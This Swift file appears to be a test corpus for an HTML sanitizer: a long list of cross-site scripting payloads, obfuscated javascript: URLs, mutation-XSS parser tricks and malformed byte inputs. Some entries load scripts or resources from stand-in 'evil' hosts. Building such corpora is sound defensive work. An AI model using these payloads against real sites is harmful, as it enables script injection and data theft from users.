/// Letters made to run a script, to load something, or to be read differently by the sanitizer and the browser.
enum HostileLetters {
    static let all = scripts + addresses + elements + readings + bytes

    private static let scripts = [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil/x.js></SCRIPT>", "<script/src=x>alert(1)",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x onerror\n=\nalert(1)>", "<p onclick=\"alert(1)\">x</p>",
        "<body onload=alert(1)>x", "<div\u{0B}onmouseover=alert(1)>x", "<a onfocus=alert(1) autofocus tabindex=1>x</a>",
        "<details open ontoggle=alert(1)>x</details>", "<b onanimationstart=alert(1) style=\"animation:x\">x</b>",
        "<input onfocus=alert(1) autofocus>", "<marquee onstart=alert(1)>x</marquee>", "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>", "<xss onpointerenter=alert(1)>x", "<img src=\"x\" \"onerror=alert(1)\">",
        "<img alt=\"`\" src=x onerror=alert(1)//`>", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    ]

    private static let addresses = [
        "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a href=\" \u{1}javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
        "<a href=\"jav\nascript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"&#0000106avascript:alert(1)\">x</a>", "<a href=\"java\0script:alert(1)\">x</a>", "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"//evil.example\">x</a>", "<a href=\"file:///etc/passwd\">x</a>", "<a href=\"/logout\">x</a>",
        "<a href=\"http:evil\">x</a>", "<a href=\"https:/logout\">x</a>", "<a href=\"http:\\\\x.example\">x</a>",
        "<a href=\"javascript:\\\\x\">x</a>",
        "<a href=\"blob:https://x\">x</a>", "<a xlink:href=\"javascript:alert(1)\">x</a>", "<a href=javascript&#58;alert(1)>x</a>",
        "<img src=\"javascript:alert(1)\">", "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">", "<img src=\"//evil/x.png\">",
        "<img srcset=\"http://evil/x 1x\" src=x>", "<img src=\"data:image/png;base64,\" srcset=\"http://evil/x\">",
        "<table background=\"http://evil/x\"><tr><td background=\"http://evil\">x</table>",
        "<body background=\"javascript:alert(1)\">x", "<form action=\"javascript:alert(1)\"><button>x</button></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>", "<form><input type=submit formaction=http://evil>x</form>",
        "<div style=\"background:url(http://evil/x)\">x</div>", "<div style=\"width:expression(alert(1))\">x</div>",
        "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>", "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
        "<a ping=\"http://evil\" href=\"https://x.example\">x</a>",
        "<img usemap=\"#m\" src=x><map name=m><area href=javascript:alert(1)></map>",
    ]

    private static let elements = [
        "<style>@import 'http://evil/x.css';</style>x", "<style>*{background:url(http://evil)}", "<link rel=stylesheet href=http://evil>x",
        "<base href=\"http://evil/\"><a href=x>x</a>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">x",
        "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=\"x.swf\"><p>x</object>",
        "<embed src=\"javascript:alert(1)\">", "<applet code=x>x</applet>", "<frameset><frame src=javascript:alert(1)></frameset>",
        "<form><input name=getElementById></form><img name=body id=cookie>", "<a id=x name=y class=z>x</a>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math href=\"javascript:alert(1)\">x</math>", "<math><mtext><img src=x onerror=alert(1)>",
        "<isindex action=javascript:alert(1) type=image>",
        "<bgsound src=javascript:alert(1)>", "<layer src=http://evil></layer>", "<portal src=http://evil>",
        "<image src=x onerror=alert(1)>",
        "<dialog open><form method=dialog><button>x</dialog>", "<template><script>alert(1)</script></template>", "<slot name=x>x</slot>",
    ]

    private static let readings = [
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<title><p title=\"</title><img src=x onerror=alert(1)>\">", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">", "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
        "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">", "<style><p title=\"</style><img src=x onerror=alert(1)>\">",
        "<plaintext><img src=x onerror=alert(1)>", "<listing>\n\n<b>x</b></listing>", "<pre>\n\n\nx</pre>", "<pre><!-- x -->\nx</pre>",
        "<!--><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)>-->",
        "<!---><img src=x onerror=alert(1)>",
        "<![CDATA[<img src=x onerror=alert(1)>]]>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
        "<!--[if mso]><script>alert(1)</script><![endif]-->x",
        "<![if !mso]><p onclick=x>x</p><![endif]>", "<?xml version=\"1.0\"?><?x <img src=x onerror=alert(1)>?>x",
        "<!DOCTYPE x [<!ENTITY a \"<script>\">]>&a;",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><foreignObject><p><style><img title=\"</style><img src=x onerror=alert(1)>\">",
        "<math><annotation-xml encoding=\"text/html\"><style><img title=\"</style><img src onerror=alert(1)>\">",
        "<svg><desc><table><tr><td><svg><style><x y=\"</style><img src=x onerror=alert(1)>\">",
        "<p><table><p>x<a href=https://a.example>y<table><a href=https://b.example>z",
        "<a href=https://a.example>1<div><a href=https://b.example>2</div>3",
        "<table><b>x<tr>y<td>z</b></table>w", "<b><p>x</b>y</p>", "<b><i><u><s><p>x</b></i></u></s>y",
        "<table><caption><table><td>x</caption>y",
        "<select><option>a<option>b<p>c<img src=x onerror=alert(1)></select>", "<button><p>a<button>b</p>c", "<nobr>a<nobr>b<nobr>c",
        "<h1>a<h2>b<p>c</h1>d", "<li><p>a<li>b<ul><li>c</p>d", "<dl><dt>a<dd>b<p><dt>c", "<ruby>a<rt>b<p>c</ruby>",
        "<object><p><div>a</object>b<p><div>c",
        "<p>a<center>b<p>c</center>d", "</p>a</br>b</div></table></td>c", "<table><tr><form><td>a</form><td>b</table>",
        "<frameset>a<noframes>b", "<select><title><html onload=x>", "<svg><title><body onload=x><img src=x onerror=alert(1)>",
        "<xmp><<body></xmp>",
        "<textarea><</textarea><<body></textarea>", "<plaintext><</plaintext><body>", "<a title='<body'><html <b>>x", "<a<b>x</a<b>",
        "&#1;<&#x2;<",
        "<html><head><p>a<title>b</title></head><body dir=rtl lang=he>c</body>d</html>e", "<col><tr><td>a<tbody>b",
        "<img src='x' alt='\"><script>alert(1)</script>'>",
        "<a title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<b x=\"1\" x='2'>a<b y>b<b>c<b>d<b>e<p>f",
        "<div title='<!--' align=center>x</div title='-->'>", "<p><object></p><applet></p>x", "<marquee><b></marquee>x",
    ]

    private static let bytes = [
        "<scr\0ipt>alert(1)</scr\0ipt>", "<img src=x on\0error=alert(1)>", "\u{FEFF}<p>x", "<p>\u{202E}x\u{2028}y</p>",
        "a\u{1}b\u{7F}c\u{85}", "a\r\nb\rc\u{0C}d",
        "&#13;&#0;&#x80;&#xD800;&#x110000;&#1;x", "<p title=\"&#13;&#10;&#0;&#1;\">x", "<\u{0}b>x", "<", "</", "<!", "<a", "<a href",
        "<a href=", "<a href=\"", "&", "&#", "&#x", "",
        " ", "\n\n", "<p", "<p title='x", "<b>\u{301}\"\u{301}<\u{301}>", "<a href=\"https://x.example/\u{301}\"\u{301}>x",
    ]
}
